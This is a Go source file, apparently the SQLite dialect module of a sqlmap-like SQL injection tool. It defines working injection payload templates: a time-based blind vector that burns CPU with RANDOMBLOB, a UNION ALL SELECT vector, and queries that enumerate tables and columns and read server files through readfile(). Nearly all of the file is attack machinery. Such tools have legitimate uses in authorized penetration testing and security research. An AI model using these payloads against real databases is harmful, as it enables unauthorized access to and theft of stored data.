package dbms

import (
	"fmt"
	"regexp"
	"strings"
)

// SQLite implements DBMS for SQLite.
// Key SQLite SQL differences:
//   - String concatenation uses ||
//   - substr() and unicode() rather than SUBSTRING/ASCII
//   - No SLEEP(); RANDOMBLOB() over a large size burns enough CPU to delay
//   - LIMIT n OFFSET m supported natively
//   - No multi-database schema: sqlite_master lists tables
//   - Type errors are silent, so there is no error-based vector
type SQLite struct{}

var sqliteDialect = register(&Dialect{
	Name:     "SQLite",
	Count:    "COUNT(%s)",
	Case:     "SELECT (CASE WHEN (%s) THEN 1 ELSE 0 END)",
	Cast:     "CAST(%s AS TEXT)",
	NullCast: "COALESCE(CAST(%s AS TEXT),' ')",
	Limit: &LimitRule{
		Pattern:    regexp.MustCompile(`(?i)\s+LIMIT\s+(\d+)\s+OFFSET\s+(\d+)`),
		StartGroup: 2,
		StopGroup:  1,
		Marker:     " LIMIT ",
	},
	TimeVector:  "AND [RANDNUM]=(CASE WHEN ([INFERENCE]) THEN (LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB([SLEEPTIME]00000000/2))))) ELSE [RANDNUM] END)",
	UnionVector: "UNION ALL SELECT [QUERY]",
	limitQuery: func(num int, query, fields, field string) string {
		return strings.Replace(query, fields, field, 1) + fmt.Sprintf(" LIMIT 1 OFFSET %d", num)
	},
})

func (s *SQLite) Name() string { return "SQLite" }

func (s *SQLite) Concatenate(parts ...string) string {
	return strings.Join(parts, "||")
}

func (s *SQLite) Substring(expr string, start, length int) string {
	return fmt.Sprintf("substr(%s,%d,%d)", expr, start, length)
}

func (s *SQLite) Length(expr string) string {
	return fmt.Sprintf("length(%s)", expr)
}

func (s *SQLite) ASCII(expr string) string {
	return fmt.Sprintf("unicode(%s)", expr)
}

func (s *SQLite) Char(code int) string {
	return fmt.Sprintf("char(%d)", code)
}

func (s *SQLite) VersionQuery() string {
	return "sqlite_version()"
}

func (s *SQLite) CurrentUserQuery() string {
	// SQLite has no user concept
	return "'sqlite'"
}

func (s *SQLite) CurrentDBQuery() string {
	return "(SELECT file FROM pragma_database_list WHERE name='main')"
}

func (s *SQLite) HostnameQuery() string {
	return "'localhost'"
}

func (s *SQLite) ListDatabasesQuery() string {
	return "SELECT name FROM pragma_database_list"
}

func (s *SQLite) ListTablesQuery(_ string) string {
	return "SELECT tbl_name FROM sqlite_master WHERE type='table' ORDER BY tbl_name"
}

func (s *SQLite) ListColumnsQuery(_, table string) string {
	return fmt.Sprintf("SELECT name FROM pragma_table_info(%s)", s.QuoteString(table))
}

func (s *SQLite) TableRef(_, table string) string {
	return table
}

func (s *SQLite) ErrorPayloads() []PayloadTemplate {
	return nil
}

// SleepFunction approximates a delay with a RANDOMBLOB heavy query; accuracy
// depends on the host.
func (s *SQLite) SleepFunction(seconds int) string {
	if seconds < 1 {
		seconds = 1
	}
	return fmt.Sprintf("LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(%d00000000/2))))", seconds)
}

func (s *SQLite) IfThenElse(condition, trueExpr, falseExpr string) string {
	return fmt.Sprintf("(CASE WHEN %s THEN %s ELSE %s END)", condition, trueExpr, falseExpr)
}

func (s *SQLite) QuoteString(str string) string {
	return "'" + strings.ReplaceAll(str, "'", "''") + "'"
}

func (s *SQLite) CommentSequence() string {
	return "--"
}

func (s *SQLite) FileReadQuery(path string) string {
	// Only available when the fileio extension is loaded.
	return fmt.Sprintf("HEX(readfile(%s))", s.QuoteString(path))
}

func (s *SQLite) Capabilities() Capabilities {
	return Capabilities{
		StackedQueries: false,
		ErrorBased:     false,
		UnionBased:     true,
		FileRead:       false,
		Subqueries:     true,
		CaseWhen:       true,
		LimitOffset:    true,
		RowLimit:       true,
	}
}
